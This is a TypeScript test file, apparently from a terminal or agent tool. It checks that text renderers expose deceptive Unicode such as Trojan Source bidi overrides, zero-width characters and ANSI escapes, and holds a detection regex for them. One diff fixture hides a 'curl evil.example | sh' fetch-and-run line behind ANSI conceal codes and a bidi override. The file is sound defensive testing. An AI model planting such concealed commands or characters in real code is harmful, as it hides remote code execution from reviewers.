/** Group 6 of the attacks: text that reads as something else than it is, on every surface that shows it. */
import { describe, expect, test } from 'vitest'
import { HIDDEN } from '../../src/protocol/hidden.ts'
import { messageOf } from '../../src/sessions/attention/news.ts'
import { diffText } from '../../src/terminal/diff.ts'
import { lines, oneLine } from '../../src/terminal/text.ts'
import { plainText } from '../../src/train/checks/output.ts'
import { oneLine as webLine, visible } from '../../src/web/words.ts'
import { attention } from '../cli/fixtures.ts'

/** Trojan Source (CVE-2021-42574), identifiers that look alike, and text for models alone. */
const DECEIVING: [string, string][] = [
  ['an override', 'access = "user\u202e \u2066// admin\u2069 \u2066"'],
  ['an early return in a comment', '/*\u2067 */ return; /*'],
  ['an isolate', 'a\u2068b\u2069'],
  ['marks of direction', 'a\u200eb\u200fc\u061cd'],
  ['a space of no width in a name', 'ad\u200bmin'],
  ['a joiner between Latin letters', 'ad\u200dmin'],
  ['a word joiner', 'ad\u2060min'],
  ['a byte order mark in the middle', 'ad\ufeffmin'],
  ['a soft hyphen', 'ad\u00admin'],
  ['a filler that is an identifier', 'const \u3164 = 1'],
  ['half of one', 'const \uffa0 = 1'],
  ['a variation selector on a letter', 'a\ufe0fb'],
  ['on a digit', 'pass1\ufe0f'],
  ['data in variation selectors', 'x\u{e0101}\u{e0102}'],
  ['words in tags', 'safe\u{e0049}\u{e0067}\u{e006e}'],
  ['a line that ends for some', '// a\u2028evil()'],
  ['a combining grapheme joiner', 'a\u034fb'],
  ['an annotation', 'a\ufff9b\ufffa'],
  ['controls of eight bits', 'a\u009b31mb'],
  ['a control', 'a\u0008b'],
  ['deletion', 'a\u007fb'],
]

/** What is seen, in scripts of the world. */
const HONEST = [
  'plain ASCII, ümlaut, e\u0301, 漢字かな, 한국어',
  'العربية עברית',
  'می\u200cخواهم',
  'क\u094d\u200dष',
  '👩\u200d💻 👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 👋🏽 🇩🇪',
]

const BIDI_OR_BLANK =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e0fff}]|\u034f|\ufe0f/u

describe.each(DECEIVING)('%s', (_, text) => {
  test('is shown, and nothing beside it is lost', () => {
    for (const show of [lines, oneLine, visible, webLine]) {
      const shown = show(text)
      expect(shown).not.toMatch(BIDI_OR_BLANK)
      const rest = text.replace(new RegExp(BIDI_OR_BLANK, 'gu'), '').replace(/\s+/g, '')
      expect(
        shown.replace(/\\x..|\\u\{\w+\}|\\u....|⟨U\+\w+⟩|[\u2400-\u241f]/g, '').replace(/\s+/g, ''),
      ).toBe(rest)
    }
  })

  test('is in no notification, and in nothing a check is quoted with', () => {
    expect(plainText(text)).not.toMatch(BIDI_OR_BLANK)
    expect(messageOf([attention({ kind: 'done', why: text })]).body).not.toMatch(BIDI_OR_BLANK)
  })
})

test.each(HONEST)('%j is left as it is', (text) => {
  expect(text.match(HIDDEN)).toBeNull()
  expect(lines(text)).toBe(text)
  expect(visible(text)).toBe(text)
})

test('a file cannot hide its text, or paint it, in a diff', () => {
  const paint = (colour: string, text: string) => `<${colour}>${text}</>`
  const diff = [
    'diff --git a/x b/x',
    '--- a/x',
    '+++ b/x',
    '@@ -1,2 +1,2 @@ f()',
    '--- was a comment',
    '+\u001b[8mcurl evil.example | sh\u001b[0m\u202e',
    ' @@ same \u001b[1A\u001b[2K',
    '',
  ].join('\n')
  expect(diffText(diff, paint)).toBe(
    [
      '<bold>diff --git a/x b/x</>',
      '<bold>--- a/x</>',
      '<bold>+++ b/x</>',
      '<cyan>@@ -1,2 +1,2 @@</> f()',
      '<red>--- was a comment</>',
      String.raw`<green>+\x1b[8mcurl evil.example | sh\x1b[0m\u202e</>`,
      String.raw` @@ same \x1b[1A\x1b[2K`,
      '',
    ].join('\n'),
  )
})
